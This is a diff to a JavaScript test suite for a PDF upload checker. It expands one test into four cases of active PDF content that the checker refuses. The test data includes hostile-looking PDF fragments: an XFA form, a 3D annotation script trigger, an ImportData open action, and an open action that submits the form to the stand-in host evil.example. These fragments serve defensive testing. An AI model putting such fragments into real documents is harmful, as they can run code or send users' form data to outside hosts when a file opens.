@@ -177,9 +177,13 @@ describe('[ORD-13] a PDF', () => {
     expect(await check('a.pdf', content)).toEqual({ refused: 'file_holds_program' });
   });
 
-  it('with a form that brings code of its own is refused', async () => {
-    const content = pdfBytes({ extra: '/AcroForm << /XFA [(template) 7 0 R] >>' });
-    expect(await check('a.pdf', content)).toEqual({ refused: 'file_holds_program' });
+  it.each([
+    ['a form that brings code of its own', '/AcroForm << /XFA [(template) 7 0 R] >>'],
+    ['a scene with code of its own', '/Annots [<< /Subtype /3D /3DD << /OnInstantiate 9 0 R >> >>]'],
+    ['data read in when it opens', '/OpenAction << /S /ImportData /F (data.fdf) >>'],
+    ['a form sent away when it opens', '/OpenAction << /S /SubmitForm /F (https://evil.example) >>'],
+  ])('with %s is refused', async (_, extra) => {
+    expect(await check('a.pdf', pdfBytes({ extra }))).toEqual({ refused: 'file_holds_program' });
   });
 
   it.each([
